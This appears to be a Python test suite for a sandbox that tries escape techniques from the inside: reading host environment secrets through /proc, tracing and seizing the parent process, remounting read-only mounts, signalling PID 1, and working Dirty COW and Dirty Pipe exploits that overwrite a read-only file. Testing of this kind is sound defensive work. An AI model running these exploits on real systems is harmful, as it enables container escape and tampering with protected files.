"""What a start leaves to be read, files that are shown read-only, and the keeper of a command."""

# run inside, by the Python that is there, each in a process of its own

import ctypes
import mmap
import os
import signal
import struct
import threading

from wall import attack, call, libc, main, put, through

SHOWN = "/opt/attacks/wall.py"
"""A file of the host's, shown here: were it written, it would be ours and not the system's."""

X86 = os.uname().machine == "x86_64"


def texts(pid):
    """What can be read of a process's start."""
    for name in (
        "environ",
        "cmdline",
        "auxv",
        "stack",
        "wchan",
        "cgroup",
        "cpuset",
        "mountinfo",
        "limits",
        "attr/current",
    ):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                yield name, file.read()
        except OSError:
            continue


@attack("empty", "runner", without="empty runner")
def no_process_shows_the_environment_of_the_host():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        words = [word for name, body in texts(pid) if name == "environ" for word in body.split(b"\0")]
        found += [f"{pid} {word[:60]!r}" for word in words if pid == "1" or b"CANARY_OF_THE_HOST" in word]
    return "; ".join(each for each in found if each.split(" ", 1)[1] != "b''")


@attack("empty")
def the_arguments_of_pid_1_name_no_folder_of_the_host():
    body = open("/proc/1/cmdline", "rb").read()
    return repr(body) if os.path.dirname(os.environ["CANARY"]).encode() in body else ""


@attack("view")
def the_mount_table_holds_no_name_but_those_of_what_is_mounted():
    """Folders of the layers can be read there; what lies beside them, and the host's other mounts, cannot."""
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    known = ("/usr", "/etc", "/proc", "/dev", "/run", "/tmp", "/opt", "/work", "/bin", "/sbin", "/lib")
    strange = [point for point in points if point != "/" and not point.startswith(known)]
    return (
        repr(strange)
        if strange
        else through(*((name, lambda name=name: os.listdir(name)) for name in ("/oldroot", "/newroot")))
    )


@attack("runner", without="runner")
def the_keeper_of_a_command_is_shut_too():
    """It holds the pipe by which a command's exit status is told."""
    keeper = os.getppid()
    while int(open(f"/proc/{keeper}/stat").read().rpartition(")")[2].split()[1]) != 1:
        keeper = int(open(f"/proc/{keeper}/stat").read().rpartition(")")[2].split()[1])
    return through(
        *((f"descriptor {each}", lambda each=each: os.readlink(f"/proc/{keeper}/fd/{each}")) for each in range(20)),
        ("memory", lambda: os.open(f"/proc/{keeper}/mem", os.O_RDWR)),
        ("root", lambda: os.readlink(f"/proc/{keeper}/root")),
        ("trace", lambda: call(101 if X86 else 117, 0x4206, keeper, 0, 0)),
        ("take", lambda: call(438, os.pidfd_open(keeper), 4, 0)),
    )


@attack("read-only")
def a_file_that_is_shown_is_not_written_through_its_page(seconds=0.3):
    """Dirty COW: one thread drops the private copy, the other writes where it was."""
    before = open(SHOWN, "rb").read()
    fd = os.open(SHOWN, os.O_RDONLY)
    page = mmap.mmap(fd, len(before), flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    address, going = _address(page), [True]

    def drop():
        while going[0]:
            page.madvise(mmap.MADV_DONTNEED)

    other = threading.Thread(target=drop)
    other.start()
    memory = os.open("/proc/self/mem", os.O_RDWR)
    try:
        for _ in range(int(seconds * 10_000)):
            os.pwrite(memory, b"owned", address)
    except OSError:
        pass
    going[0] = False
    other.join()
    return "" if open(SHOWN, "rb").read() == before else "the file was written"


def _address(page):
    for line in open("/proc/self/maps"):
        if SHOWN in line:
            return int(line.split("-")[0], 16)
    raise OSError(2, "")


@attack("read-only")
def a_file_that_is_shown_is_not_written_through_a_pipe():
    """Dirty pipe (CVE-2022-0847): a page of the file, spliced into a pipe, was written by who wrote to the pipe."""
    before = open(SHOWN, "rb").read()
    source, sink = os.pipe()
    size = 65536
    os.write(sink, b"x" * size)
    os.read(source, size)
    fd = os.open(SHOWN, os.O_RDONLY)
    spliced = libc.splice(fd, ctypes.byref(ctypes.c_int64(0)), sink, None, ctypes.c_size_t(1), 0)
    os.write(sink, b"owned")
    after = open(SHOWN, "rb").read()
    return "" if spliced == 1 and after == before else f"{spliced} spliced, {after[:10]!r}"


@attack("read-only", "capabilities")
def what_is_shown_is_not_made_writable():
    mounts = [line.split()[4] for line in open("/proc/self/mountinfo") if line.split()[5].startswith("ro")]
    body = struct.pack("QQQQ", 0, 1, 0, 0)
    return through(
        *((point, lambda point=point: _remounted(point)) for point in mounts),
        *((f"{point} anew", lambda point=point: call(442, -100, point.encode(), 0, body, 32)) for point in mounts),
        *((f"{name} in", lambda name=name: put(name, b"x")) for name in (SHOWN, "/usr/bin/env")),
    )


def _remounted(point):
    if libc.mount(None, point.encode(), None, 0x20 | 0x1000, None):
        raise OSError(ctypes.get_errno(), "")


@attack("processes", "runner")
def signals_to_everyone_stop_neither_pid_1_nor_the_host():
    child = os.fork()
    if child == 0:
        os.setsid()
        for number in (signal.SIGHUP, signal.SIGUSR1, signal.SIGCONT, signal.SIGWINCH):
            signal.signal(number, signal.SIG_IGN)
        for number in (signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2, signal.SIGTSTP, signal.SIGSEGV, signal.SIGBUS):
            try:
                os.kill(1, number)
            except OSError:
                pass
        os._exit(0)
    os.waitpid(child, 0)
    state = open("/proc/1/stat").read().rpartition(")")[2].split()[0]
    return "" if state in "SRD" else state


if __name__ == "__main__":
    main()
